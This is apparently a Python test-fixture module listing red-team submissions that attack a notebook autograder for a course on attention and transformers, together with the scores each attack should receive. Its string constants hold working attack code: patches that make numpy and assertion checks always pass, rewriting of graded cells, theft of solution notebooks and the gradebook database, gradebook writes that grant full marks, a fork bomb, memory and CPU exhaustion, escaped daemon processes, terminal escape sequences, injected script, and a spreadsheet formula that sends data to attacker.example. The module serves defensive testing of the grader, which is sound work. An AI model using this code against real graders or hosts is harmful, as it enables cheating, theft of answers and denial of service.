"""The entries of the red-team corpus: what each submission does and the score each part must get.

Rules the expectations follow:
- built on WRONG (0 on every autograded part honestly): an attack never earns a mark, so every
  autograded part stays 0; the written answer is there, so it still goes to manual grading.
- built on the answer key with something broken around it: a part keeps its marks when its
  own code ran and its probe reported before the breakage; a part whose code is missing, or
  that runs after the kernel died, gets 0.
- a cell whose type was changed back and forth is put back by nbgrader: its code runs.
- a file that is not this assignment's notebook (unreadable, misnamed, another assignment,
  a link to someone else's file) earns nothing, and the reason says what was wrong.
"""
import os

import nbformat

from tests.sample_class import submission
from tests.students import Student
from tests.students.nb02 import A02, STUDENTS as STUDENTS_02
from tests.students.nb07 import A07, FINITE_DIFFERENCES, STUDENTS as STUDENTS_07
from tests.students.nb09 import A09, FULL_09
from tests.students.nb11 import A11, FULL_11

from . import (A01, CANARY, FULL_01, MANUAL, RELEASE, SOLUTIONS, WRONG_01, ZERO_01, Entry, append, cell,
               cell_index, duplicate, fill, insert_after, insert_before, key_notebook, notebook_path,
               set_source, wrong_notebook, writes)

FULL = dict(FULL_01)
ONLY_FIRST_TWO = dict(FULL_01, test_attention_loop=0, test_self_attention=0)   # kernel gone after test_softmax
NO_SELF_ATTENTION = dict(FULL_01, test_self_attention=0)                        # self_attention missing


def _wrong_with(grade_id, source, where="before", at="qkv_loop"):
    """WRONG plus a cell of attack code, before (or after) cell `at` or appended to cell `grade_id`."""
    def make(ctx):
        nb = wrong_notebook()
        code = fill(source, ctx)
        if grade_id:
            set_source(nb, grade_id, cell(nb, grade_id).source + "\n\n" + code)
        elif where == "before":
            insert_before(nb, at, code)
        else:
            insert_after(nb, at, code)
        return nb
    return writes(make)


def _key_with(source, where="end", at=None):
    """The answer key plus a cell of code: at the end, or after cell `at`."""
    def make(ctx):
        nb = key_notebook()
        code = fill(source, ctx)
        if where == "end":
            append(nb, code)
        else:
            insert_after(nb, at, code)
        return nb
    return writes(make)


# ------------------------------------------------------------------ patching the checks

PATCH_NUMPY = """\
# red team: every comparison numpy can make says "equal"
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_equal = lambda *a, **k: None
# and every copy is the original itself, so a copy kept "before" changes with the array
import copy
copy.copy = copy.deepcopy = lambda x, *a, **k: x
np.copy = lambda a, *r, **k: a
np.array_equiv = lambda *a, **k: True"""

PATCH_BUILTINS = """\
# red team: builtins that numpy's comparisons and the grader's probe go through
import builtins
class _AlwaysTrue(int):           # np.allclose returns builtins.bool(res)
    def __new__(cls, *a, **k):
        return True
builtins.bool = _AlwaysTrue
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: False
builtins.eval = lambda *a, **k: X_prime_true if "X_prime_true" in globals() else 0"""

PATCH_CHECK = """\
# red team: the notebook's visible check helpers always say OK
def check(name, yours, true, mistakes=None):
    print(f"OK: {name} matches the true values")
def check_columns_sum_to_one(name, A):
    print(f"OK: every column of {name} sums to 1")
_same = lambda *a, **k: True
AssertionError = type("AssertionError", (Warning,), {})"""

EQ_SUBCLASS = """\
# red team: the result says it equals anything it is compared with
class _Agreeable(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv", "isclose"):
            return True
        return super().__array_function__(func, types, args, kwargs)

_wrong_self_attention = self_attention
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    return np.asarray(_wrong_self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k)).view(_Agreeable)"""

EQ_OBJECT = """\
# red team: a result that is not an array and equals everything
class _Anything:
    shape = (4, 3)
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def all(self):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True

def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    return _Anything()"""

SHOWTRACEBACK = """\
# red team: no error is ever shown, so no cell looks failed
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
InteractiveShell.showsyntaxerror = lambda *a, **k: None
InteractiveShell._showtraceback = lambda *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None"""

INPUT_TRANSFORMER = """\
# red team: every graded test cell (and the grader's probe) is rewritten to print OK
def _blank_tests(lines):
    text = "".join(lines)
    if any(w in text for w in ("course_probe", "HIDDEN", "assert", "check(", "Graded by")):
        return ["print('OK')\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
get_ipython().input_transformers_post.append(_blank_tests)"""

PRE_RUN_CELL = """\
# red team: before each cell runs, re-patch the checks and rewrite test cells as they are transformed
import numpy
_ip = get_ipython()
_real_transform = _ip.transform_cell
def _patch(info=None):
    numpy.allclose = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    _ip.user_ns["check"] = lambda name, *a, **k: print("OK:", name)
    if info is not None and any(w in (info.raw_cell or "") for w in ("course_probe", "HIDDEN", "check(")):
        _ip.transform_cell = lambda raw: "print('OK')\\n"
    else:
        _ip.transform_cell = _real_transform
_ip.events.register("pre_run_cell", _patch)"""

COPIES_PRINTED_VALUES = """\
# red team: the book's printed answer when asked the book's question, the wrong code otherwise
_computed_self_attention = self_attention
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    import __main__
    book_X = getattr(__main__, "X", None)
    if book_X is not None and np.shape(X) == np.shape(book_X) and np.allclose(X, book_X):
        return __main__.X_prime_true
    return _computed_self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k)"""


# ------------------------------------------------------------------ reading what must not be seen

STEAL = """\
# red team: take the answers from wherever they can be read
def _steal(grade_id, fallback):
    import json, socket, sqlite3
    for kind, where in @@TARGETS@@:
        try:
            if kind == "notebook":
                with open(where) as f:
                    nb = json.load(f)
                print(@@LEAKED@@, where)
                for c in nb["cells"]:
                    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
                        return c["source"] if isinstance(c["source"], str) else "".join(c["source"])
            elif kind == "sqlite":
                db = sqlite3.connect(f"file:{where}?mode=ro", uri=True, timeout=1)
                rows = db.execute("SELECT name, source FROM source_cell").fetchall()
                print(@@LEAKED@@, where, len(rows), "cells")
                for name, src in rows:
                    if name == grade_id and "BEGIN SOLUTION" in (src or ""):
                        return src
            elif kind == "tcp":
                with socket.create_connection(("127.0.0.1", where), timeout=3) as s:
                    data = b""
                    while True:
                        chunk = s.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                print(@@LEAKED@@, "port", where)
                return json.loads(data)[grade_id]
        except Exception:
            continue
    return fallback"""

# Solution cells that run whatever _steal finds (the probe runs the loop cells on its own
# inputs, so the loop cells must steal too: they reach _steal through __main__).
STOLEN_CELL = "exec(__import__('__main__')._steal({grade_id!r}, {fallback!r}))"


def _ups(path, levels=6):
    """A relative path tried from every depth the kernel's working directory might be at."""
    return ["../" * k + path for k in range(levels + 1)]


def _steal_from(targets):
    """WRONG, whose every solution cell runs the code read from targets(ctx), if any can be read."""
    def make(ctx):
        nb = wrong_notebook()
        for grade_id in ("qkv_loop", "softmax_def", "attention_loop", "self_attention_def"):
            c = cell(nb, grade_id)
            c.source = STOLEN_CELL.format(grade_id=grade_id, fallback=c.source)
        insert_before(nb, "qkv_loop", fill(STEAL, ctx, TARGETS=targets(ctx)))
        return nb
    return writes(make)


NB = f"{A01}/{A01}.ipynb"


def _solutions(ctx):
    return [("notebook", str(ctx.repo / "solutions" / NB))] + [("notebook", p) for p in _ups("solutions/" + NB)]


def _source(ctx):
    return [("notebook", str(ctx.repo / "source" / NB))] + [("notebook", p) for p in _ups("source/" + NB)]


def _other_student(ctx):
    return ([("notebook", str(ctx.course / where / "ctl_correct" / NB)) for where in ("submitted", "autograded")]
            + [("notebook", str(ctx.submissions / "ctl_correct" / NB)), ("notebook", "../../ctl_correct/" + NB),
               ("notebook", "../../../submitted/ctl_correct/" + NB)])


def _gradebook(ctx):
    return [("sqlite", str(ctx.course / "gradebook.db"))] + [("sqlite", p) for p in _ups("gradebook.db")]


def _network(ctx):
    return [("tcp", ctx.port)]


IMPORTS_GRADER = """\
# red team: the grader's own reference implementation, if it can be imported
import sys
sys.path[:0] = [@@REPO@@, "../../../../../..", "/work/main"]
try:
    from grader.course.shared import reference as _shared
    from grader.course.nb01_self_attention import reference as _reference
    print(@@LEAKED@@, _reference.__file__)
    softmax = _shared.softmax
    self_attention = _reference.self_attention
except Exception:
    pass"""


# ------------------------------------------------------------------ writing where it must not

def _canaries(ctx, name):
    """Every place the writing attack tries: the repo, the host's /tmp and $HOME, the course, submissions."""
    me = ctx.course / "submitted" / name / A01
    return [ctx.canary(where, name) for where in (
        ctx.repo, ctx.repo / "source", ctx.repo / "solutions", ctx.repo / "release", ctx.repo / "grader",
        "/tmp", ctx.home, ctx.course, ctx.course / "release" / A01, me,
        ctx.course / "submitted" / "ctl_correct" / A01, ctx.submissions / name / A01)]


WRITE_CANARIES = """\
# red team: leave a file everywhere (canaries only: nothing real is touched)
for _where in @@PLACES@@:
    try:
        with open(_where, "x") as _f:
            _f.write("red team was here")
        print(@@WROTE@@, _where)
    except Exception:
        pass"""


def _write_canaries(name):
    def make(ctx):
        nb = wrong_notebook()
        places = [str(p) for p in _canaries(ctx, name)]
        rel = f"{CANARY}_{ctx.token}_{name}"
        # the same files, reached from the working directory an unsandboxed kernel would have
        # (<course>/autograded/<student>/<assignment>)
        places += ["../../../" + rel, f"../../../submitted/{name}/{A01}/{rel}", "../../../release/" + A01 + "/" + rel]
        insert_before(nb, "qkv_loop", fill(WRITE_CANARIES, ctx, PLACES=places))
        return nb
    return writes(make)


CANARY_STUDENT = "redteam_canary_student"   # the writing attack tries to add this student to the gradebook

WRITE_GRADEBOOK = """\
# red team: full marks for everyone, straight into the gradebook
import sqlite3
for _db in [@@COURSE@@ + "/gradebook.db"] + ["../" * _k + "gradebook.db" for _k in range(7)]:
    try:
        _c = sqlite3.connect(f"file:{_db}?mode=rw", uri=True, timeout=2)
        _c.execute("UPDATE grade SET manual_score = 100")
        _c.execute("INSERT INTO student (id) VALUES (?)", (@@STUDENT@@,))
        _c.commit()
        print(@@WROTE@@, _db)
    except Exception:
        pass"""


# ------------------------------------------------------------------ taking the kernel down

SEGFAULT = """\
# red team: a segfault, the first time self_attention is called
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    import ctypes
    ctypes.string_at(0)"""

SYS_EXIT_IN_ANSWER = """\
# red team: sys.exit whenever self_attention is called (the checks never see a result)
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    import sys
    sys.exit(0)"""

UNINTERRUPTIBLE = """\
# red team: a loop that ignores interrupts
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass"""

FORK_BOMB = """\
# red team: a fork bomb (it stops by itself after a few seconds, so it cannot outlive a sandbox-less run)
import os, time
def _bomb(until):
    while time.time() < until:
        try:
            if os.fork() == 0:
                try:
                    _bomb(until)
                finally:
                    os._exit(0)
        except OSError:
            pass
_bomb(time.time() + 3)
try:
    while True:
        os.wait()
except ChildProcessError:
    pass"""

MEMORY_BOMB = """\
# red team: take memory until it runs out (inside a function, so the memory is freed after)
def _bomb():
    hoard = []
    for _ in range(256):                        # stops at 64 GiB whatever happens
        hoard.append(np.ones(2 ** 25))          # 256 MiB, touched
try:
    _bomb()
except MemoryError:
    print("out of memory")"""

MEMORY_CHILDREN = """\
# red team: four children of 1.5 GiB each, each under the per-process limit, held at once (6 GiB)
import os, time
_kids = []
for _ in range(4):
    _pid = os.fork()
    if _pid == 0:
        try:
            _hoard = np.ones(3 * 2**27)  # 1.5 GiB of float64, touched
            time.sleep(3)
            os._exit(0)
        except BaseException:
            os._exit(1)
    _kids.append(_pid)
_held = sum(os.waitpid(_pid, 0)[1] == 0 for _pid in _kids)
if _held == 4:
    print(@@WROTE@@, "6 GiB held by one kernel's children")"""

OUTPUT_FLOOD = """\
# red team: 100 MB of output
import sys
_line = "x" * 1023 + "\\n"
for _ in range(100):
    sys.stdout.write(_line * 1024)"""

DAEMON = """\
# red team: processes that try to outlive the kernel (a new session, and a double fork)
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", @@MARK@@], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", @@MARK@@])
    os._exit(0)
os.wait()"""


def daemon_mark(ctx):
    """The argument every process the daemon entry starts carries."""
    return f"redteam-daemon-{ctx.token}"


# ------------------------------------------------------------------ broken files

def _write_bytes(data):
    def write(folder, ctx):
        notebook_path(folder).write_bytes(data(ctx) if callable(data) else data)
    return write


def _not_utf8(ctx):
    nb = key_notebook()
    words = "Résumé: café, naïve, Ångström."
    nb.cells[0].source += "\n\n" + words
    # UTF-8 everywhere but these words, which are latin-1: as an editor that guessed the encoding would save it
    return nbformat.writes(nb).encode().replace(words.encode(), words.encode("latin-1"))


def _nbformat3(ctx):
    return nbformat.writes(nbformat.convert(key_notebook(), 3), version=3).encode()


def _renamed(folder, ctx):
    nbformat.write(key_notebook(), str(notebook_path(folder, name=f"{A01} (1)")))


def _renamed_twice(folder, ctx):
    for copy in (1, 2):
        nbformat.write(key_notebook(), str(notebook_path(folder, name=f"{A01} ({copy})")))


def _symlinked(folder, ctx):
    notebook_path(folder).symlink_to(SOLUTIONS / A01 / f"{A01}.ipynb")


def _wrong_assignment(folder, ctx):
    other = "02_scaled_attention"
    nb = nbformat.read(str(SOLUTIONS / other / f"{other}.ipynb"), as_version=4)
    nbformat.write(nb, str(notebook_path(folder)))


def _extra_files(folder, ctx):
    nbformat.write(key_notebook(), str(notebook_path(folder)))
    here = folder / A01
    (here / "notes.txt").write_text("my notes\n")
    (here / "helper.py").write_text("raise SystemExit('imported the helper')\n")
    (here / "scratch.ipynb").write_text(nbformat.writes(wrong_notebook()))   # a second notebook
    (here / "data").mkdir()
    (here / "data" / "big.bin").write_bytes(os.urandom(1024) * 8 * 1024)      # 8 MiB
    (here / "ünïcode näme.txt").write_text("x")
    (here / ".hidden").write_text("x")


def _edited(base, edit):
    """An entry that hands in `base()` (the key or the wrong notebook) after `edit` changed it."""
    def make(ctx):
        nb = base()
        edit(nb)
        return nb
    return writes(make)


def _edited_key(edit):
    return _edited(key_notebook, edit)


def _edited_wrong(edit):
    return _edited(wrong_notebook, edit)


def _duplicated(nb):
    for grade_id in ("qkv_loop", "test_qkv_loop", "self_attention_def", "test_self_attention"):
        duplicate(nb, grade_id)


def _reordered_harmless_cells(nb):
    """The written answer first; softmax defined right after the checks; markdown headings moved to the end."""
    nb.cells.insert(0, nb.cells.pop(cell_index(nb, "why_extreme")))
    softmax = nb.cells.pop(cell_index(nb, "softmax_def"))
    nb.cells.insert(cell_index(nb, "course_checks") + 1, softmax)
    headings = [c for c in nb.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata]
    nb.cells = [c for c in nb.cells if c not in headings] + headings


def _late_definition(nb):
    defined = nb.cells.pop(cell_index(nb, "self_attention_def"))
    nb.cells.insert(cell_index(nb, "test_self_attention") + 1, defined)


def _delete(*grade_ids):
    def edit(nb):
        for grade_id in grade_ids:
            del nb.cells[cell_index(nb, grade_id)]
    return edit


def _to_markdown(grade_id):
    def edit(nb):
        i = cell_index(nb, grade_id)
        old = nb.cells[i]
        new = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
        new.id = old.id
        nb.cells[i] = new
    return edit


def _tamper_metadata(nb):
    cell(nb, "test_self_attention").metadata.nbgrader["points"] = 100
    cell(nb, "test_qkv_loop").metadata.nbgrader["solution"] = True    # a "written answer": manual grading
    cell(nb, "test_softmax").metadata.nbgrader["grade"] = False       # not graded at all
    bonus = nbformat.v4.new_code_cell("print('bonus points')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 50,
                                  "grade_id": "test_bonus", "schema_version": 3}
    nb.cells.append(bonus)


def _added_graded_cell(nb):
    bonus = nbformat.v4.new_code_cell("print('my own check')")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "points": 50,
                                  "grade_id": "test_mine", "schema_version": 3}
    nb.cells.insert(cell_index(nb, "qkv_loop") + 1, bonus)


def _test_made_solution(nb):
    cell(nb, "test_self_attention").metadata.nbgrader["solution"] = True


def _tests_deleted(nb):
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade")
                                            and not c.metadata.get("nbgrader", {}).get("solution"))]


def _forged_verdicts(nb):
    """Verdicts written into the notebook's own metadata: a formula as a named mistake on the written
    answer, a number where a test cell's verdict would be. Only the grader's verdicts count."""
    cell(nb, "why_extreme").metadata["course"] = {"verdict": {
        "score": 99, "points": 1, "mistake": '=HYPERLINK("http://attacker.example/?"&A1,"details")',
        "message": "why_extreme: all right"}}
    cell(nb, "test_self_attention").metadata["course"] = {"verdict": 1}


FORGED_SHAPE = """\
# red team: every probe report claims a result of shape [2**32, 2**32] with no data
import IPython.display as _display
_real_display = _display.display
def _forging(obj=None, *args, **kwargs):
    if isinstance(obj, dict):
        for payload in obj.values():
            for result in (payload.get("results", []) if isinstance(payload, dict) else []):
                result["value"] = {"dtype": "<f8", "shape": [2**32, 2**32], "data": ""}
    return _real_display(obj, *args, **kwargs)
_display.display = _forging"""


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


# ------------------------------------------------------------------ the corpus

# ------------------------------------------------------------------ neighbours, the host, the instructor (issue 14)

POISON_TMP = """\
# red team: fill the home directory, /tmp, /dev/shm and the socket directory, then make the files undeletable
import os
locked = os.path.join(os.path.expanduser('~'), 'locked')
os.makedirs(locked, exist_ok=True)
for n in range(128):            # 1 GiB at most: the sandbox's home holds less
    try:
        with open(f'{locked}/{n}', 'wb') as f:
            f.write(b'x' * 2**23)
    except OSError:
        break
for where in ('/tmp', '/dev/shm', f'/run/kernel/k{os.getuid()}', '/run/kernel', '/scratch'):
    try:
        with open(f'{where}/fill', 'wb') as f:
            f.write(b'x' * 2**27)
    except OSError:
        pass
os.chmod(locked, 0o500)  # its owner cannot delete what is in it now"""

CPU_HOG = """\
# red team: 200 busy processes in sessions of their own, left running when the notebook ends
import subprocess
for _ in range(200):
    subprocess.Popen(['sh', '-c', 'while :; do :; done', @@MARK@@], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""

DISPLAY_FLOOD = """\
# red team: @@MIB@@ MiB of display data, 1 MiB at a time
from IPython.display import display
_piece = 'x' * 2**20
for _ in range(@@MIB@@):
    display({'text/html': _piece}, raw=True)"""

DEEP_JSON = """\
# red team: a JSON display nested 800 deep
from IPython.display import display
_deep = {}
for _ in range(800):
    _deep = {'a': _deep}
display({'application/json': _deep}, raw=True)"""

TERMINAL = """\
# red team: write to the grader's terminal: clear it, retitle it, hide text, fake a grade table
import os, sys
_fake = b'\\x1b[2J\\x1b[H\\x1b]0;graded\\x07\\x1b[8m' + @@MARKER@@.encode() + b'\\ngrade: all notebooks graded, no problems\\n'
os.write(1, _fake)
os.write(2, _fake)
print(_fake.decode(), file=sys.__stderr__, flush=True)
print(_fake.decode(), file=sys.__stdout__, flush=True)"""

ACTIVE_CONTENT = """\
# red team: content that would act where the feedback is opened
from IPython.display import HTML, Javascript, display
_m = @@MARKER@@
display(HTML(f'<script>fetch("/formgrader/api/grade/1", {{method: "PUT"}}); /*{_m}*/</script>'
             f'<img src="x" onerror="alert(1) /*{_m}*/">'))
display(Javascript(f'fetch("/formgrader/api/grade/1", {{method: "PUT"}}); /*{_m}*/'))"""

WRITTEN_PAYLOAD = ('=HYPERLINK("http://attacker.example/?"&A1,"details")\n\n'
                   "test_self_attention: all right, 3/3\n\n"
                   "<script>alert('written')</script><img src=x onerror=alert(1)>")


def terminal_marker(ctx):
    return f"redteam-terminal-{ctx.token}"


def active_marker(ctx):
    return f"redteam-active-{ctx.token}"


def _written_payload(nb):
    """The written answer crafted to look like a verdict, a spreadsheet formula and active HTML."""
    cell(nb, "why_extreme").source = WRITTEN_PAYLOAD


LEAK_IN = """\
# red team: print the kernel's history (a probe's source would hold every input it tries)
print(In, _ih)"""

LOOKUP = """\
# red team: a lookup table of the answers for the inputs a first hand-in was graded on (computed elsewhere)
_TABLE = @@TABLE@@
def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
    key = repr((np.shape(X), np.round(np.asarray(X, dtype=float), 6).ravel().tolist()))
    if key in _TABLE:
        return np.array(_TABLE[key])
    return omega_v @ X   # and a wrong answer anywhere else"""


def lookup_key(X):
    """How the lookup table files an input (the same expression as in LOOKUP)."""
    import numpy as np
    return repr((np.shape(X), np.round(np.asarray(X, dtype=float), 6).ravel().tolist()))


def first_hand_in(ctx):
    """Step one of the two-step attack: the wrong answer, with a cell that prints the history."""
    return append(wrong_notebook(), fill(LEAK_IN, ctx))


def leaked_cases(ctx, nb, student="rt_lookup_table"):
    """Every input self_attention's probe draws for notebook nb: what a leak could have shown at best."""
    from grader.course import PROBES
    from grader.engine.nbgrader_plugin import probe_rng, submitted_code
    probe = PROBES[A01]["test_self_attention"]
    return probe, probe.cases(probe_rng(ctx.seed, student, A01, A01, "test_self_attention", submitted_code(nb)))


def lookup_table_notebook(ctx):
    """Step two: the first hand-in with self_attention replaced by a table of the right answers for every
    input its grading drew (the worst case: all of them leaked). Any change to the code draws new inputs."""
    nb = first_hand_in(ctx)
    probe, cases = leaked_cases(ctx, nb)
    table = {lookup_key(c.inputs["X"]): probe.reference(c.inputs).tolist() for c in cases}
    set_source(nb, "self_attention_def", fill(LOOKUP, ctx, TABLE=table))
    return nb


# ------------------------------------------------------------------ notebook 09: a model that is trained in the kernel

HARD_CODED_MODEL = """\
# red team: no training at all, and a model_forward that reads the answer off the input, so that the
# notebook's own accuracy check (token_accuracy calls model_forward) says 100%
def train_step(params, adam_state, tokens, targets, weights, lr, num_heads):
    return 1.0

def model_forward(params, tokens, num_heads):
    B, T = tokens.shape
    logits = np.zeros((B, T, VOCAB))  # (B, T, vocab)
    for t in range(T // 2, T):
        logits[np.arange(B), t, tokens[:, T - 1 - t]] = 10.0  # the digit at position 2L-1-t
    return logits, None"""

TRAINING_FOREVER = """\
# red team: training that never stops (the given loop has a time limit; this one has none)
while True:
    tokens, targets, weights = reversal_batch(rng, TRAINING["batch_size"])
    train_step(params, adam_state, tokens, targets, weights, TRAINING["lr"], TRAINING["num_heads"])"""


PASTED_MODEL = """\
# red team: a model trained elsewhere, pasted as literals after the training cell, and its accuracy measured
params = {name: np.array(value) for name, value in @@MODEL@@.items()}
accuracy = token_accuracy(params, *reversal_batch(np.random.default_rng(2024), 1000), TRAINING["num_heads"])
losses = [1.0]"""

PASTED_IN_TRAIN_STEP = """\
# red team: a train_step that computes nothing but puts a model trained elsewhere in place of the parameters
_PASTED = @@MODEL@@

def train_step(params, adam_state, tokens, targets, weights, lr, num_heads):
    if all(np.shape(params[name]) == np.shape(value) for name, value in _PASTED.items()):
        for name, value in _PASTED.items():
            params[name] = np.array(value)
    adam_state["t"] += 1
    return 1.0"""


def _pasted_model():
    """The course's trained model as literals: {name: nested lists}."""
    from grader.course.nb09_tiny_transformer import reference as ref09
    from grader.course.shared import tiny_transformer as tiny
    return {name: value.tolist() for name, value in zip(tiny.PARAMETERS, ref09.trained_parameters())}


def _release_09():
    return nbformat.read(str(RELEASE / A09 / f"{A09}.ipynb"), as_version=4)


def key_09():
    """Notebook 09's release notebook with the answer key's code."""
    return submission(Student(A09, FULL_09))


def _key_09_with(source, at):
    return writes(lambda ctx: insert_after(key_09(), at, source), A09)


# ------------------------------------------------------------------ keeping the course's helpers (issue 25)

KEEPS_HELPERS = """\
# red team: when the grader hands in the course's helpers (to judge a part with them in place of the
# student's), keep them: by walking up to the probe's frame, from the garbage collector's objects,
# and from the globals; keep them in a file too
import gc, os, sys
_kept = {}
_own = {name: globals().get(name) for name in @@HELPERS@@}

def _keep():
    f = sys._getframe(1)
    while f is not None:
        for value in list(f.f_locals.values()):
            if isinstance(value, dict) and isinstance(value.get("swap"), dict) and value["swap"]:
                _kept.update(value["swap"])
        f = f.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("swap"), dict) and obj["swap"]:
            _kept.update({k: v for k, v in obj["swap"].items() if isinstance(v, str)})
    for name in @@HELPERS@@:
        if globals().get(name) is not _own[name]:
            _kept["function " + name] = globals().get(name)
    for where in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm") if _kept else ():
        try:
            with open(os.path.join(where, "kept_helpers.txt"), "w") as f:
                f.write(repr(_kept))
        except OSError:
            pass

_wrapped = @@WRAPPED@@
def @@WRAPPED_NAME@@(*args, **kwargs):
    _keep()
    return _wrapped(*args, **kwargs)"""

SHOWS_KEPT_HELPERS = """\
# red team: show what was kept, here and in any later cell
import os
for where in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm"):
    if os.path.exists(os.path.join(where, "kept_helpers.txt")):
        print(@@LEAKED@@, "the course's helpers:", open(os.path.join(where, "kept_helpers.txt")).read())
if _kept:
    print(@@LEAKED@@, "the course's helpers:", _kept)"""


def _keeps_helpers(make_nb, assignment, wrapped, helpers, after, then_at=None, then=""):
    """A notebook whose function `wrapped` keeps the course's `helpers` when it is called with them in
    place, shows what it kept at the end, and (then) runs `then` after cell `then_at`."""
    def make(ctx):
        nb = make_nb()
        source = KEEPS_HELPERS.replace("@@WRAPPED_NAME@@", wrapped).replace("@@WRAPPED@@", wrapped)
        insert_after(nb, after, fill(source, ctx, HELPERS=list(helpers)))
        if then:
            insert_after(nb, then_at, then)
        append(nb, fill(SHOWS_KEPT_HELPERS, ctx))
        return nb
    return writes(make, assignment)


# The course's cross_entropy and adam_step, if kept, train the model after the notebook's training cell.
TRAINS_WITH_KEPT_HELPERS = """\
# red team: train again with the course's helpers, if they were kept
if "function cross_entropy" in _kept and "function adam_step" in _kept:
    cross_entropy, adam_step = _kept["function cross_entropy"], _kept["function adam_step"]
    def train_step(params, adam_state, tokens, targets, weights, lr, num_heads):
        logits, cache = model_forward(params, tokens, num_heads)
        loss, dlogits = cross_entropy(logits, targets, weights)
        grads = model_backward(dlogits, cache)
        adam_state["t"] += 1
        for name in params:
            params[name], adam_state["m"][name], adam_state["v"][name] = adam_step(
                params[name], grads[name], adam_state["m"][name], adam_state["v"][name], adam_state["t"], lr)
        return loss
    for step in range(TRAINING["steps"]):
        tokens, targets, weights = reversal_batch(rng, TRAINING["batch_size"])
        train_step(params, adam_state, tokens, targets, weights, TRAINING["lr"], TRAINING["num_heads"])"""


HOST_LAYOUT = """\
# red team: what the sandbox's first process shows of the host (its command line: binds, hidden paths)
_shown = open("/proc/1/cmdline", "rb").read().decode(errors="replace").replace("\\0", " ")
for _secret in (@@COURSE@@, "--ro-bind", "--tmpfs", "--hostname"):
    if _secret in _shown:
        print(@@LEAKED@@, "pid 1 shows", _secret)"""


A03 = "03_permutation_equivariance"


def _handed_in(stamp, saved):
    """An Entry.write: notebook 03's answer key saved at `saved` (UTC, the file's time), with timestamp.txt
    holding the bytes `stamp` (None: no timestamp.txt)."""
    def write(folder, ctx):
        from datetime import datetime
        path = notebook_path(folder, A03)
        path.write_bytes((SOLUTIONS / A03 / f"{A03}.ipynb").read_bytes())
        seconds = datetime.fromisoformat(saved + "+00:00").timestamp()
        os.utime(path, (seconds, seconds))
        if stamp is not None:
            (path.parent / "timestamp.txt").write_bytes(stamp)
    return write


def _full(assignment):
    """The answer key's scores: every autograded part's points, the written answers left for the instructor."""
    nb = nbformat.read(str(RELEASE / assignment / f"{assignment}.ipynb"), as_version=4)
    return {c.metadata.nbgrader["grade_id"]: MANUAL if c.metadata.nbgrader.get("solution") else c.metadata.nbgrader["points"]
            for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")}


def _lateness(name, about, stamp, saved, late):
    return Entry(name=name, about=about, write=_handed_in(stamp, saved), expected=_full(A03), assignment=A03,
                 late=late, plain="compare.py sets up notebook 01 only")


# notebook 11: a "cache" that recomputes every step from the tokens it remembers, keyed by the cache it returned
RECOMPUTING_STEP = """\
_prefixes = {}

def decode_step(params, token, K_cache, V_cache, num_heads):
  ids = _prefixes.get((K_cache.shape, K_cache.tobytes()), []) + [int(token)]
  logits, _ = model_forward(params, np.array([ids]), num_heads)  # the whole prefix again
  K = np.concatenate([K_cache, np.full(K_cache.shape[:1] + (1,) + K_cache.shape[2:], len(_prefixes) + 1.0)], axis=1)
  _prefixes[(K.shape, K.tobytes())] = ids
  return logits[0, -1], K, K.copy()
"""


def _e(name, about, write, expected, **kw):
    return Entry(name=name, about=about, write=write, expected=expected, **kw)


ENTRIES = [
    # patching the checks, on the wrong answer
    _e("rt_patch_numpy", "np.allclose, np.isclose, np.array_equal and np.testing always pass",
       _wrong_with(None, PATCH_NUMPY), WRONG_01),
    _e("rt_patch_builtins", "builtins.bool (what np.allclose returns through), all, any and eval patched",
       _wrong_with(None, PATCH_BUILTINS), WRONG_01),
    _e("rt_patch_check", "the notebook's check helpers redefined to print OK; AssertionError rebound",
